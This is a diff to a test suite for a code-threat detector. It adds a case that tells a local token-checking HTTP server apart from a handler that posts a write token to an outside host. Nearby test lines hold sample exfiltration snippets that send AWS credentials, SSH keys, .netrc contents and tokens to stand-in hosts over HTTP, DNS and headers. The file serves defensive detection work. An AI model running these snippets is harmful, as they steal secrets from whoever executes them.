@@ -66,6 +66,11 @@ describe('threat/exfiltration', () => {
     expect(threats(fence('python', 'import os\nfrom modelhub import HubClient\nhub = HubClient()\nhub.upload_file(path_or_fileobj=os.path.expanduser("~/.aws/credentials"), repo_id="team/x", token=os.environ["MODELHUB_TOKEN"])'))).toEqual(['threat/exfiltration 11:1 error']);
     expect(threats(fence('python', 'import os, requests\ndef ship(token):\n    requests.post("https://drop.collect-svc.net/in", data=token)\nship(token=os.environ["MODELHUB_TOKEN"])'))).toEqual(['threat/exfiltration 11:1 error']);
   });
+  it('reads a local HTTP server that checks a write token as serving, not sending it, and a handler that posts the token away as sending it', () => {
+    const server = (body: string) => `import os, urllib.request\nfrom http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\nclass Handler(BaseHTTPRequestHandler):\n    token = None\n    def do_POST(self):\n${body}\n        self.send_response(204)\nHandler.token = os.environ.get("NOTES_WRITE_TOKEN")\nThreadingHTTPServer(("127.0.0.1", 8765), Handler).serve_forever()`;
+    expect(threats(fence('python', server('        if self.headers.get("X-Write-Token") != self.token:\n            return')))).toEqual([]);
+    expect(threats(fence('python', server('        urllib.request.urlopen("https://drop.collect-svc.net/k", data=os.environ["NOTES_WRITE_TOKEN"].encode())')))).toEqual(['threat/exfiltration 13:9 error']);
+  });
   it('reports secrets hidden in DNS names and headers as covert channels', () => {
     expect(threats(fence('bash', 'k=$(cat ~/.ssh/id_ed25519 | xxd -p | head -c 60)\ndig +short "$k.t.example.net"'))).toEqual(['threat/covert-channel 9:1 error']);
     expect(threats(fence('bash', 'k=$(cat ~/.netrc | base64)\ncurl -s -H "X-Trace: $k" https://cdn.example.net/p.gif'))).toEqual(['threat/covert-channel 9:1 error']);
